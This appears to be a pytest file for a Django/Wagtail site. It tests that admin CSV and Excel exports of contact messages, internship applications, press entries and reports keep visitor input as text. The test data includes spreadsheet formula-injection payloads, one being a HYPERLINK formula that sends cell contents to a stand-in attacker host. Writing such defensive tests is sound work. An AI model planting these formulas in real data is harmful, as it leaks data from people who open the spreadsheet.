"""Every spreadsheet the admin exports keeps what visitors wrote as text, never as a formula."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from home.factories import ContactPageFactory
from home.models import ContactSubmission
from home.spreadsheets import formula_safe
from home.tests.admin_helpers import make_member
from people import factories as people_factories

# Builds the pages it needs (home/factories.py) on an empty site.
pytestmark = pytest.mark.own_pages

# What an attacker types, and how the cell must read in the CSV.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"x")': '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "+1 555 0100": "'+1 555 0100",  # a phone number still reads as one
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Ana Reyes": "Ana Reyes",
    "ana@example.org": "ana@example.org",
}


@pytest.mark.parametrize("typed, shown", HOSTILE.items())
def test_the_guard(typed, shown):
    assert formula_safe(typed) == shown


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def admin_client():
    client = Client()
    client.force_login(make_member("Editors", superuser=True))
    return client


@pytest.mark.django_db
def test_contact_messages_export_without_formulas(admin_client, page_tree):
    contact = ContactPageFactory(parent=page_tree.home)
    for typed in HOSTILE:
        ContactSubmission.objects.create(
            page=contact,
            form_data={
                "name": typed,
                "email": "ana@example.org",
                "phone": typed,
                "how_should_we_reach_you": "Email",
                "message": typed,
            },
        )
    response = admin_client.get(f"/admin/forms/submissions/{contact.pk}/", {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert len(rows) == len(HOSTILE)
    assert {row["Name"] for row in rows} == set(HOSTILE.values())
    assert all(row["Name"] == row["Phone"] == row["Message"] for row in rows)


@pytest.mark.django_db
def test_contact_messages_in_excel_stay_text(admin_client, page_tree):
    from openpyxl import load_workbook

    contact = ContactPageFactory(parent=page_tree.home)
    ContactSubmission.objects.create(
        page=contact, form_data={"name": "=1+1", "email": "a@example.org", "message": "-2+3"}
    )
    response = admin_client.get(f"/admin/forms/submissions/{contact.pk}/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells if cell.value in ("=1+1", "-2+3")} == {"s"}


@pytest.mark.django_db
@pytest.mark.usefixtures("page_tree")
def test_internship_applications_export_without_formulas(admin_client):
    posting = people_factories.make_posting(title="Export intern")
    for typed in HOSTILE:
        people_factories.make_application(posting, name=typed, school=typed, email="eve@example.org")
    response = admin_client.get("/admin/people/internshipapplication/", {"export": "csv"})
    rows = [row for row in csv_rows(response) if row["Posting"] == "Export intern"]
    assert {row["Name"] for row in rows} == set(HOSTILE.values())
    assert all(row["Name"] == row["School or programme"] for row in rows)


@pytest.mark.django_db
@pytest.mark.usefixtures("page_tree")
def test_press_appearances_export_without_formulas(admin_client):
    from press.models import PressAppearance

    for number, typed in enumerate(HOSTILE):
        PressAppearance.objects.create(
            outlet=typed, headline=typed, url=f"https://news.example/{number}", date="2024-01-01", medium="print"
        )
    response = admin_client.get(reverse("wagtailsnippets_press_pressappearance:list"), {"export": "csv"})
    rows = csv_rows(response)
    assert {row["Outlet"] for row in rows} >= set(HOSTILE.values())
    assert "@SUM(1)" not in {row["Headline"] for row in rows}


@pytest.mark.django_db
@pytest.mark.usefixtures("page_tree")
@pytest.mark.parametrize("report", ["site_history", "locked_pages", "aging_pages"])
def test_wagtails_own_reports_export_without_formulas(admin_client, report):
    """Wagtail's reports show titles and labels others wrote (site history names an application by its applicant)."""
    from django.utils import timezone
    from wagtail.models import PageLogEntry

    from home.tests.admin_helpers import make_standard_page

    hostile = next(iter(HOSTILE))
    page = make_standard_page(title=hostile, slug="hostile-title", live=True)
    page.locked, page.locked_at = True, timezone.now()
    page.save(update_fields=["locked", "locked_at"])
    PageLogEntry.objects.log_action(page, "wagtail.edit")
    response = admin_client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(body)) for cell in row}
    assert HOSTILE[hostile] in cells
    assert hostile not in cells
